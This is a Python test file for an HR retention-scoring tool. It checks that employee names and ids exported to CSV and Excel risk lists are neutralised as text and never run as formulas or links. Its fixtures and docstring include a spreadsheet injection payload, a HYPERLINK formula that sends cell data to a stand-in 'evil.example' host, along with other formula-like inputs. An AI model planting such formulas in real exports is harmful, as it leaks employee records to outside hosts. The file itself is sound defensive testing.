"""Text from the HR extract never runs as a spreadsheet formula or link in a list (CSV or Excel).

A manager opens the CSV or the workbook in Excel; a display name, id or team id that opens with "=" (or
"+", "-", "@") would otherwise be a formula Excel evaluates, e.g. =HYPERLINK("http://x/?"&A1, "Click")
sending the row elsewhere.
"""

from __future__ import annotations

import csv
import importlib.util
from pathlib import Path

from retention_ml.commands.rank import rank_scores

_spec = importlib.util.spec_from_file_location("scores_frame", Path(__file__).with_name("scores_frame.py"))
scores_frame = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(scores_frame)

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _scoring(tmp_path):
    frame = scores_frame.synthetic_scores({"T1": 6}, seed=4, service="safeguarding")
    frame["display_name"] = "Ann Example"
    frame.loc[0, "display_name"] = EVIL
    frame.loc[1, "display_name"] = "@SUM(1+1)"
    frame.loc[2, "display_name"] = "http://evil.example/"
    frame.loc[3, "worker_id"] = "-2+3"
    return scores_frame.write_scoring(tmp_path / "s", frame)


def test_csv_cells_that_open_like_a_formula_are_text(tmp_path):
    rank_scores(_scoring(tmp_path), tmp_path / "out", team=["T1"], formats=["csv"], names=True)
    lines = [line for line in (tmp_path / "out" / "risk_list_team_T1.csv").read_text().splitlines()
             if line and not line.startswith("#")]   # the '#' lines end with a blank line (risk_list.NOTES_END)
    rows = list(csv.DictReader(lines))
    names = {r["display_name"] for r in rows}
    assert "'" + EVIL in names and "'@SUM(1+1)" in names and EVIL not in names
    assert "'-2+3" in {r["worker_id"] for r in rows}
    assert "Ann Example" in names and "http://evil.example/" in names   # other text unchanged
    assert {r["rank"] for r in rows} == {str(i) for i in range(1, 7)}   # numbers unchanged


def test_xlsx_cells_are_text_never_formulas_or_links(tmp_path):
    import openpyxl

    rank_scores(_scoring(tmp_path), tmp_path / "out", team=["T1"], formats=["xlsx"], names=True)
    ws = openpyxl.load_workbook(tmp_path / "out" / "risk_list_team_T1.xlsx")["T1"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.coordinate for c in cells if c.hyperlink is not None]
    assert EVIL in {c.value for c in cells}   # shown as written, as text


def test_xlsx_long_reasons_and_levers_wrap_instead_of_being_cut_off(tmp_path):
    import openpyxl

    frame = scores_frame.synthetic_scores({"T1": 6}, seed=4, service="safeguarding")
    frame["lever_1"] = "A development plan with CPD days or academy courses (ASYE support for newly qualified staff)"
    rank_scores(scores_frame.write_scoring(tmp_path / "s", frame), tmp_path / "out", team=["T1"], formats=["xlsx"])
    ws = openpyxl.load_workbook(tmp_path / "out" / "risk_list_team_T1.xlsx")["T1"]
    header_row = int(ws.freeze_panes[1:]) - 1
    col = [c.value for c in ws[header_row]].index("Suggested lever 1") + 1
    letter = openpyxl.utils.get_column_letter(col)
    assert ws.column_dimensions[letter].width < len(frame.loc[0, "lever_1"])   # longer than its column ...
    rows = range(header_row + 1, header_row + 1 + len(frame))
    assert all(ws.cell(r, col).alignment.wrap_text for r in rows)   # ... so wrapped


def test_neutralising_leaves_the_callers_rows_as_they_were():
    import pandas as pd

    from retention_ml.reports.risk_list import neutralise_formulas

    rows = pd.DataFrame({"worker_id": ["W1", "=1+1", None], "risk": [0.1, 0.2, 0.3]})
    out = neutralise_formulas(rows)
    assert out["worker_id"].tolist()[:2] == ["W1", "'=1+1"] and out["worker_id"].isna().tolist()[2]
    assert rows["worker_id"].tolist()[1] == "=1+1"     # the scores the other formats write from are untouched
    assert out["risk"].tolist() == [0.1, 0.2, 0.3]
